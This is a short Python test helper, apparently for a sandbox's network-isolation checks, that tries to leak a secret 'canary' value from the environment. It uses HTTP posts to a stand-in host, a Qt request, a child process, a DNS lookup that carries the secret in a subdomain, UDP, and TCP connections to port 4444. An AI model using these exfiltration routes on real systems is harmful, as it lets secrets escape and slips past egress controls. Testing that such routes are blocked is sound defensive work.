"""Ways out beside the door, one a word; each tries to carry the text in CANARY away.  leaks.py WAY"""

from __future__ import annotations

import asyncio
import contextlib
import os
import socket
import subprocess
import sys

CANARY = os.environ["CANARY"]
URL = "http://cloud.test:8080/v1/chat/completions"


async def by_httpx() -> None:
    import httpx

    async with httpx.AsyncClient() as client:
        await client.post(URL, content=CANARY)


async def by_httpx2() -> None:
    import httpx2

    async with httpx2.AsyncClient() as client:
        await client.post(URL, content=CANARY)


def by_qt() -> None:
    from PySide6.QtCore import QCoreApplication, QUrl
    from PySide6.QtNetwork import QNetworkAccessManager, QNetworkRequest

    app = QCoreApplication([])
    manager = QNetworkAccessManager()
    manager.finished.connect(app.quit)
    manager.post(QNetworkRequest(QUrl(URL)), CANARY.encode())
    app.exec()


def by_child() -> None:
    code = f"import urllib.request as u; u.urlopen({URL!r}, data={CANARY.encode()!r}).read()"
    subprocess.run([sys.executable, "-c", code], check=True)


def by_name() -> None:
    with contextlib.suppress(OSError):
        socket.getaddrinfo(f"{CANARY}.cloud.test", 443)


def by_datagram() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
        way.sendto(CANARY.encode(), ("198.51.100.7", 9999))


def by_closed_port() -> None:
    with contextlib.suppress(OSError):
        socket.create_connection(("198.51.100.7", 4444), timeout=5).close()


def by_other_address_family() -> None:
    with contextlib.suppress(OSError):
        socket.create_connection(("2001:db8::7", 4444), timeout=5).close()


WAYS = {
    "httpx": by_httpx,
    "httpx2": by_httpx2,
    "qt": by_qt,
    "child": by_child,
    "name": by_name,
    "datagram": by_datagram,
    "closed port": by_closed_port,
    "ipv6": by_other_address_family,
}

if __name__ == "__main__":
    done = WAYS[sys.argv[1]]()
    if done is not None:
        asyncio.run(done)
